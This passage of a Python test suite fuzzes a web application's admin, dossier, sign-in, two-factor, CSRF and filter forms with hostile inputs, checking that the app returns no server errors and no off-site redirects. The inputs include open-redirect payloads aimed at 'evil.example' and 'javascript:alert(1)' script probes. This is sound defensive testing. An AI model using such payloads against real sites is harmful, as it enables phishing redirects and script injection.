    tally("new user", not expected)
    if expected:
        page_refusal(response, expected)
        assert_unchanged(before)
    else:
        assert response.status_code == 200, page_errors(response)
        person = User.get(User.email == email.strip().lower())
        assert (person.name, person.role) == (name.strip(), role)

    target = User.get_by_id(world.users["researcher"].id)
    before = db_state()
    response = browser.client.post(f"/admin/users/{target.id}", data={"action": action, "role": role,
                                                                      "csrf_token": token})
    if action not in ("role", "activate", "password_link"):
        assert response.status_code == 400 and page_errors(response)
        assert_unchanged(before)
    elif action == "role" and role not in ROLES:
        flashed_refusal(browser, response, ["Unknown role."])
        assert_unchanged(before)
    else:
        assert response.status_code in (200, 302)
        assert User.get_by_id(target.id).role == (role if action == "role" else target.role)


# A form carries text only: drawn as text rather than filtered out of ``choice``, whose JSON values
# made Hypothesis discard most examples and fail its health check now and then.
dossier_choices = st.fixed_dictionaries({
    "lang": st.one_of(st.sampled_from(LANGUAGES), hostile_text(surrogates=True)),
    "redaction": st.one_of(st.sampled_from(REDACTIONS), hostile_text(surrogates=True)),
    "layout": st.one_of(st.sampled_from(LAYOUTS), hostile_text(surrogates=True)),
    "format": st.one_of(st.sampled_from(FORMATS), hostile_text(surrogates=True)),
    "include_files": st.one_of(st.just("1"), hostile_text()),
})


@fuzz(25)
@given(ids=st.lists(st.one_of(st.just("published"), hostile_text(), st.sampled_from(["²", "9" * 5000, "0", "-1"])),
                    max_size=4),
       choices=dossier_choices, next_page=st.one_of(st.just("/incidents"), hostile_text(),
                                                    st.sampled_from(["//evil.example", "https://evil.example/",
                                                                     "/\\evil.example", "/\n/evil.example",
                                                                     "javascript:alert(1)"])))
@example(ids=["²"], choices={"lang": "", "redaction": "", "layout": "", "format": "", "include_files": ""},
         next_page="")  # a digit that int() cannot read: was a 500
def test_page_dossier_forms(world, ids, choices, next_page):
    """Adding to and removing from a dossier hostile ids, and building it with hostile choices:
    never a 5xx nor a redirect off the site, and a 422 page naming what is wrong, with nothing
    recorded; or the file, recorded in the audit trail."""
    browser, token = world.browser("lawyer")
    if world.published is None:
        world.published = publish(make_incident(world.users["contributor"], world.facility),
                                  world.users["contributor"], world.users["reviewer"]).id
    ids = [str(world.published) if i == "published" else i for i in ids]
    before = db_state()
    for path in ("/dossier/remove", "/dossier/add"):
        response = browser.client.post(path, data={"incident_id": ids, "next": next_page, "csrf_token": token})
        assert response.status_code == 302 and not off_site(response.headers["Location"])
    assert_unchanged(before)  # the selection lives in the session, not the database

    chosen = [i for i in ids if readable_id(i) == world.published]
    expected = {}
    for key, allowed in (("lang", LANGUAGES), ("redaction", REDACTIONS), ("layout", LAYOUTS), ("format", FORMATS)):
        if choices[key] and choices[key] not in allowed:
            expected[key] = {"Unknown value"}
    if not chosen:  # the page then shows no build form, only what to do first
        expected = {"incident_ids": {"Choose at least one incident."}}
    response = browser.client.post("/dossier/build", data={**choices, "csrf_token": token})
    tally("build", not expected)
    if expected:
        page_refusal(response, expected)
        assert_unchanged(before)
    else:
        assert response.status_code == 200 and "attachment" in response.headers["Content-Disposition"]
        assert [e["action"] for e in db_state()["AuditEvent"][len(before["AuditEvent"]):]] == ["dossier.export"]
    browser.client.post("/dossier/clear", data={"csrf_token": token})


def maybe_a_code(code: str) -> bool:
    """Six digits: possibly the right code (Hypothesis must not guess it now and then), or digits
    of another script, which test_a_code_in_other_digits_is_refused covers."""
    code = "".join(code.split())
    return len(code) == 6 and code.isdigit()


codes = st.one_of(hostile_text(), st.from_regex(r"[0-9]{3} ?[0-9]{2,4}", fullmatch=True),
                  st.from_regex(r"[0-9a-f]{6}-[0-9a-f]{6}-[0-9a-f]{6}", fullmatch=True)).filter(lambda c: not maybe_a_code(c))
passwords = st.one_of(hostile_text(), near_limit(1024), st.sampled_from(["correct horse battery staple",
                                                                          "Tr0ub4dor&3", " " * 12, "\x00" * 12]))
redirects = st.one_of(st.just(""), st.just("/incidents"), hostile_text(),
                      st.sampled_from(["//evil.example", "https://evil.example/", "/\\evil.example",
                                       "javascript:alert(1)", "\t//evil.example", "/\t/evil.example",
                                       "/%2F%2Fevil.example"]))
SIGN_IN_FORMS = ("login", "login_code", "set_password", "set_language", "two_factor_confirm", "two_factor_restart",
                 "two_factor_recovery_codes")


@fuzz(40)
@given(form=st.sampled_from(SIGN_IN_FORMS), email=st.one_of(emails, st.sampled_from(["lawyer@example.org"])),
       password=passwords, confirm=st.one_of(st.none(), passwords), code=codes, next_page=redirects,
       lang=st.one_of(st.sampled_from(LANGUAGES), hostile_text()))
def test_page_sign_in_forms(world, form, email, password, confirm, code, next_page, lang):
    """Signing in, the second step, setting a password through a link, the language switch and
    the second-factor pages, with hostile values: never a 5xx, never a redirect off the site; a
    refusal shows why and changes nothing but the count of failed attempts."""
    client_for = {"set_language": "contributor", "two_factor_confirm": "reviewer", "two_factor_restart": "reviewer",
                  "two_factor_recovery_codes": "reviewer"}
    if form in client_for:
        browser, token = world.browser(client_for[form])
    elif form == "login_code":
        browser, token = world.pending_sign_in()
    else:
        browser = Browser(world.app)
    path = {"login": "/login", "login_code": "/login/code", "set_language": "/language",
            "two_factor_confirm": "/account/two-factor/confirm", "two_factor_restart": "/account/two-factor/restart",
            "two_factor_recovery_codes": "/account/two-factor/recovery-codes"}.get(form)
    if form == "set_password":
        path = "/set-password/" + credentials.issue_password_link(world.users["researcher"], 60)
    if form in ("login", "set_password"):
        token = browser.csrf_token(path)
    confirm = password if confirm is None else confirm
    data = {"email": email, "password": password, "confirm": confirm, "code": code, "next": next_page,
            "lang": lang, "csrf_token": token}
    before = db_state()
    response = browser.client.post(path, data=data)
    tally(form, response.status_code < 400)
    assert response.status_code < 500
    if 300 <= response.status_code < 400:
        assert not off_site(response.headers["Location"]), response.headers["Location"]

    if form == "set_language" and lang in LANGUAGES:
        assert response.status_code == 302 and User.get_by_id(world.users["contributor"].id).locale == lang
        return
    if form == "set_password" and response.status_code == 302:
        # Whether zxcvbn finds a password easy to guess is its call; a password it took must be the
        # one now set, and one the form or the length rule refuses must never be taken.
        assert password.strip() and password == confirm and 12 <= len(password) <= 1024
        assert credentials.authenticate(world.users["researcher"].email, password, testing=True)
        return
    if form == "set_language":
        assert response.status_code == 400 and page_errors(response)
    else:
        flashed_refusal(browser, response)
    assert_unchanged(before, login_failures=True)


def test_a_code_in_other_digits_is_refused(world):
    browser, token = world.browser("reviewer")
    response = browser.client.post("/account/two-factor/recovery-codes", data={"code": "²²²²²²", "csrf_token": token})
    assert response.status_code == 422


@fuzz(40)
@given(data=st.data(), token_kind=st.sampled_from(["valid", "missing", "forged", "another session's"]),
       fields=st.dictionaries(hostile_text().filter(lambda k: k != "csrf_token"),
                              st.one_of(hostile_text(), st.lists(hostile_text(), max_size=3)), max_size=5))
def test_every_page_refuses_forged_posts(world, data, token_kind, fields):
    """Every writing page route, found in the app's URL map, posted random fields by a signed-in
    administrator: without the session's CSRF token a 400 that changed nothing; with it, never a
    5xx, and a refusal that changed nothing."""
    rules = sorted((r for r in writing_rules(world.app) if not r.rule.startswith("/api/")), key=lambda r: r.rule)
    rule = data.draw(st.sampled_from(rules), label="rule")
    browser, token = world.browser("admin")
    if rule.endpoint == "auth.logout" and token_kind == "valid":
        token_kind = "missing"  # signing out would end this browser's session for later examples
    token = {"valid": token, "missing": None, "another session's": world.browser("contributor")[1],
             "forged": data.draw(hostile_text(), label="forged token")}[token_kind]
    arguments = url_arguments(world)
    path = world.app.url_map.bind("localhost").build(rule.endpoint, {a: arguments[a] for a in rule.arguments},
                                                     method="POST")
    before = db_state()
    response = browser.client.post(path, data={**fields, **({"csrf_token": token} if token is not None else {})})
    tally(token_kind, response.status_code < 400)
    assert response.status_code < 500, (rule.rule, page_errors(response))
    if token_kind != "valid":
        assert response.status_code == 400 and page_errors(response), (rule.rule, response.status_code)
    if response.status_code >= 400:
        assert_unchanged(before, login_failures=rule.endpoint.startswith("auth."))


# The filter forms that read (GET): each with the parameters it sends.
GET_FORMS = {
    "/incidents": ("q", "facility", "country", "region", "abuse", "perpetrator", "date_from", "date_to",
                   "verification", "page", "per_page", "sort", "facets", "lang"),
    "/api/v1/incidents": ("q", "facility", "country", "region", "abuse", "perpetrator", "date_from", "date_to",
                          "verification", "page", "per_page", "sort", "facets", "status", "lang"),
    "/api/v1/export/incidents.csv": ("facility", "abuse", "date_from", "hxl", "lang"),
    "/facilities": ("q",), "/api/v1/facilities": ("q",), "/regions": ("country",),
    # "dimension" belongs to statistics.csv, and "endpoint" and "_scheme" to no form: stray parameters.
    "/statistics": ("facility", "abuse", "date_from", "dimension", "endpoint", "_scheme"),
    "/statistics.csv": ("dimension", "facility"),
    "/workspace": ("status", "verification"), "/admin/audit": ("action", "actor", "object_type", "object_id",
                                                              "date_from", "date_to", "page"),
    "/archive/1": ("page",),  # no such batch: 404, once the page number is read
}
query_values = st.one_of(hostile_text(), malformed_dates, st.sampled_from(["²", "9" * 5000, "0", "-1", "1", "RU",
                                                                           "RU-SAR", "030502000000", "-date"]))


@fuzz(40)
@given(case=st.sampled_from(sorted(GET_FORMS)).flatmap(lambda path: st.tuples(
    st.just(path), st.dictionaries(st.sampled_from(GET_FORMS[path]), query_values, max_size=4))))
@example(case=("/incidents", {"facility": "²"}))  # a digit that int() cannot read: was a 500
@example(case=("/api/v1/incidents", {"page": "9" * 5000}))  # more digits than int() reads: was a 500
@example(case=("/admin/audit", {"page": "²"}))  # was a 500
@example(case=("/archive/1", {"page": "²"}))  # was a 500
@example(case=("/statistics", {"dimension": "year"}))  # clashed with the CSV links' own: was a 500
def test_filter_forms_survive_hostile_queries(world, case):
    """The list, search, statistics, workspace and audit-trail filters with hostile values: an
    answer or a clear 400/422, never a 5xx, and nothing written but the audit of what was read."""
    path, query = case
    browser, _token = world.browser("admin")
    before = db_state()
    response = browser.client.get(path, query_string=query)
    assert response.status_code in (200, 400, 404, 422), (path, query, response.status_code)
    assert_unchanged(before)
